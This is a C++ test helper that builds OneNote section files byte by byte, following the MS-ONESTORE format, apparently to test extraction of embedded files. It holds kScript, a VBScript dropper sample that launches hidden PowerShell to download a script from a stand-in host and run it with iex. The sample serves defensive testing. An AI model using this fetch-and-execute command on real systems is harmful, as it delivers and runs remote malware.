#pragma once
/// Test helper (header-only, tests only): OneNote sections written byte by byte. The file GUID,
/// FileDataStoreObjects ([MS-ONESTORE] 2.6.13) and, for named files, a FileNodeListFragment
/// (2.4.1) declaring for each file a jcidEmbeddedFileNode with its ObjectSpaceObjectPropSet
/// (2.6.7: EmbeddedFileName and EmbeddedFileContainer), the file data object (2.5.27
/// ObjectDeclarationFileData3RefCountFND, "<ifndf>{GUID}") and the store reference (2.5.21).
#include <cstdint>
#include <cstdio>
#include <string>
#include <string_view>
#include <vector>

namespace lg::onenote::testing {

inline const std::string kFileGuid(
    "\xE4\x52\x5C\x7B\x8C\xD8\xA7\x4D\xAE\xB1\x53\x78\xD0\x29\x96\xD3", 16);
inline const std::string kHeader("\xE7\x16\xE3\xBD\x65\x26\x11\x45\xA4\xC4\x8D\x4D\x0B\x7A\x9E\xAC",
                                 16);
inline const std::string kFooter("\x22\xA7\xFB\x71\x79\x0F\x0B\x4A\xBB\x13\x89\x92\x56\x42\x6B\x24",
                                 16);

/// A VBScript dropper, the payload of the 2023 OneNote lures.
inline const std::string kScript =
    "Set shell = CreateObject(\"WScript.Shell\")\r\n"
    "shell.Run \"powershell -w hidden -c iwr https://cdn.example/a.ps1 | iex\", 0\r\n";

inline std::string le(std::uint64_t v, int bytes) {
  std::string s(static_cast<std::size_t>(bytes), '\0');
  for (int i = 0; i < bytes; ++i) s[static_cast<std::size_t>(i)] = static_cast<char>(v >> (8 * i));
  return s;
}

inline std::string utf16(std::string_view s) {
  std::string out;
  for (char c : s) {
    out += c;
    out += '\0';
  }
  return out;
}

/// guidHeader, cbLength, unused, reserved, FileData padded to 8, guidFooter.
inline std::string file_data_store_object(const std::string& data, bool footer = true) {
  std::string o = kHeader + le(data.size(), 8) + std::string(4 + 8, '\0') + data;
  o.append((8 - data.size() % 8) % 8, '\0');
  if (footer) o += kFooter;
  return o;
}

/// The file GUID and a header area, then the objects (24 bytes of zeros after each).
inline std::string section(const std::vector<std::string>& objects) {
  std::string s = kFileGuid + std::string(0x400 - 16, '\0');
  for (const auto& o : objects) s += o + std::string(24, '\0');
  return s;
}

/// A FileNode (2.4.3): header (id, size, StpFormat 1 and CbFormat 0: 4-byte references,
/// BaseType, reserved bit set) and data.
inline std::string file_node(std::uint32_t id, std::uint32_t base_type, const std::string& data) {
  const std::uint32_t size = static_cast<std::uint32_t>(4 + data.size());
  const std::uint32_t h =
      id | (size << 10) | (1u << 23) | (0u << 25) | (base_type << 27) | (1u << 31);
  return le(h, 4) + data;
}

/// The test GUID number `i` as text and in its on-disk form ([MS-DTYP] 2.3.4.2).
inline std::string guid_text(unsigned i) {
  char b[64];
  std::snprintf(b, sizeof b, "{1A2B3C4D-5E6F-4071-8293-A4B5C6D7E8%02X}", i);
  return b;
}
inline std::string guid_bytes(unsigned i) {
  return std::string("\x4D\x3C\x2B\x1A\x6F\x5E\x71\x40\x82\x93\xA4\xB5\xC6\xD7\xE8", 15) +
         static_cast<char>(i);
}

struct EmbeddedSpec {
  std::string name, data;
  bool extra_oids = false;  // an ArrayOfObjectIDs of two before the container in the set
};

/// A section whose files are named by embedded file nodes in one file node list (ID 0x10)
/// with a global ID table (index 1 -> a GUID). Objects: file i's node is CompactID n = 2i+1,
/// its file data object n = 2i+2.
inline std::string named_section(const std::vector<EmbeddedSpec>& files) {
  std::string one = kFileGuid + std::string(0x400 - 16, '\0');
  std::vector<std::size_t> prop_at, prop_size, store_at;
  for (std::size_t i = 0; i < files.size(); ++i) {
    const std::uint32_t container = (1u << 8) | static_cast<std::uint32_t>(2 * i + 2);
    std::string oids, prids, data;
    if (files[i].extra_oids) {
      oids += le((1u << 8) | 0x77, 4) + le((1u << 8) | 0x78, 4);
      prids += le(0x24001C1Fu, 4);  // an ArrayOfObjectIDs (type 0x9)
      data += le(2, 4);
    }
    oids += le(container, 4);
    prids += le(0x20001D9Bu, 4) + le(0x1C001D9Cu, 4) + le(0x14001C3Fu, 4);  // + a 4-byte value
    const std::string name = utf16(files[i].name) + std::string(2, '\0');
    data += le(name.size(), 4) + name + le(7, 4);
    const std::uint32_t count = static_cast<std::uint32_t>(oids.size() / 4);
    const std::string props =
        le(count | 0x80000000u, 4) + oids + le(prids.size() / 4, 2) + prids + data;
    prop_at.push_back(one.size());
    prop_size.push_back(props.size());
    one += props + std::string(8, '\0');
    store_at.push_back(one.size());
    one += file_data_store_object(files[i].data) + std::string(8, '\0');
  }
  std::string nodes =
      file_node(0x022, 0, "") + file_node(0x024, 0,
                                          le(1, 4) + std::string("\x11\x22\x33\x44\x55\x66\x77"
                                                                 "\x88\x99\xAA\xBB\xCC\xDD\xEE"
                                                                 "\xFF\x01",
                                                                 16));
  for (std::size_t i = 0; i < files.size(); ++i) {
    const std::uint32_t node_oid = (1u << 8) | static_cast<std::uint32_t>(2 * i + 1);
    const std::uint32_t data_oid = (1u << 8) | static_cast<std::uint32_t>(2 * i + 2);
    nodes += file_node(0x0A4, 1,
                       le(prop_at[i], 4) + le(prop_size[i], 4) + le(node_oid, 4) +
                           le(0x00060035, 4) + std::string("\x01\x01", 2));
    const std::string reference = "<ifndf>" + guid_text(static_cast<unsigned>(i));
    nodes += file_node(0x072, 0,
                       le(data_oid, 4) + le(0x00080036, 4) + std::string("\x01", 1) +
                           le(reference.size(), 4) + utf16(reference) + le(4, 4) + utf16(".bin"));
    nodes += file_node(0x094, 1,
                       le(store_at[i], 4) + le(48 + files[i].data.size(), 4) +
                           guid_bytes(static_cast<unsigned>(i)));
  }
  nodes += file_node(0x0FF, 0, "");
  one += std::string("\xC4\xF4\xF7\xF5\xB1\x7A\x56\xA4", 8) + le(0x10, 4) + le(0, 4) + nodes +
         std::string(8, '\0') + std::string(8, '\xFF') + le(0, 4) +
         std::string("\x4B\xBA\x33\x82\xC3\x15\xC2\x8B", 8);
  return one;
}

}  // namespace lg::onenote::testing
